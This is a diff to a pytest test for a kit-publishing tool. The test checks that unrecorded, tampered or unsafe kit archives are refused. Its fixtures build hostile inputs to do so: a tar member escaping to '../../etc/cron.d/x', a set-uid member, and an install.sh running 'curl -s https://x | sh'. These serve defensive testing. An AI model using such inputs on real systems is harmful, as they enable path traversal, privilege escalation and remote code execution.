@@ -278,30 +278,50 @@ def test_kit_of_a_directory_that_is_not_a_build(tmp_path: Path) -> None:
 
 
 def test_the_kit_is_published_with_the_build_as_one_checked_archive(tmp_path: Path) -> None:
-    from longcert import publish
+    """The kit goes out only as manifest.json and SHA256SUMS record it, and only as plain
+    files with plain modes under kit/ (issue 20: a changed install.sh, a 04755 member)."""
+    from longcert import package, publish
     from longcert.errors import PublishError
     from tests.standin_build import make_build
 
     out = make_build(tmp_path / "builds")
     files = [kit.KitFile("README.md", "read me\n"), kit.KitFile("renew.sh", "#!/bin/sh\n", True)]
     kit.write_kit(out, files)
+    with pytest.raises(PublishError, match=r"is not the kit manifest\.json records"):
+        publish.load_build(out)  # written but not recorded (a kit killed half-way, or swapped)
+    package.record_kit(out)
     assert sorted(p.name for p in (out / "kit").iterdir()) == ["README.md", "renew.sh"]
     assert (out / kit.KIT_ARCHIVE).read_bytes() == kit.kit_archive(files)  # reproducible
     build = publish.load_build(out)
     assert [f.name for f in build.files][-4:] == [
         kit.KIT_ARCHIVE, "SHA256SUMS", "patch.diff", "manifest.json"]
+    sums = (out / "SHA256SUMS").read_text()
+    assert f"  {kit.KIT_ARCHIVE}\n" in sums and "  manifest.json\n" in sums
     publish.DirectoryTarget(tmp_path / "share").push(build)
     shared = tmp_path / "share" / out.name / kit.KIT_ARCHIVE
     assert shared.read_bytes() == (out / kit.KIT_ARCHIVE).read_bytes()
 
-    with tarfile.open(out / kit.KIT_ARCHIVE, "w:gz") as tar:  # a member out of kit/
-        info = tarfile.TarInfo("../../etc/cron.d/x")
-        tar.addfile(info, io.BytesIO(b""))
+    def recorded_archive(*members: tuple[str, int]) -> None:
+        with tarfile.open(out / kit.KIT_ARCHIVE, "w:gz") as tar:
+            for name, mode in members:
+                info = tarfile.TarInfo(name)
+                info.mode = mode
+                tar.addfile(info, io.BytesIO(b""))
+        package.record_kit(out)  # even recorded, it is refused
+
+    recorded_archive(("../../etc/cron.d/x", 0o644))  # a member out of kit/
+    with pytest.raises(PublishError, match=r"kit.tar.gz is not a kit written by `invoke kit`"):
+        publish.load_build(out)
+    recorded_archive(("kit/renew.sh", 0o4755))  # set-uid
     with pytest.raises(PublishError, match=r"kit.tar.gz is not a kit written by `invoke kit`"):
         publish.load_build(out)
     (out / kit.KIT_ARCHIVE).write_bytes(b"not gzip")
+    package.record_kit(out)
     with pytest.raises(PublishError, match="not a kit"):
         publish.load_build(out)
+    kit.write_kit(out, [kit.KitFile("install.sh", "curl -s https://x | sh\n", True)])
+    with pytest.raises(PublishError, match=r"is not the kit manifest\.json records"):
+        publish.load_build(out)  # changed after `longcert kit` recorded it
 
 
 # Every minor the kit serves, v1.9 to the newest stand-in: what it renders must be shell that
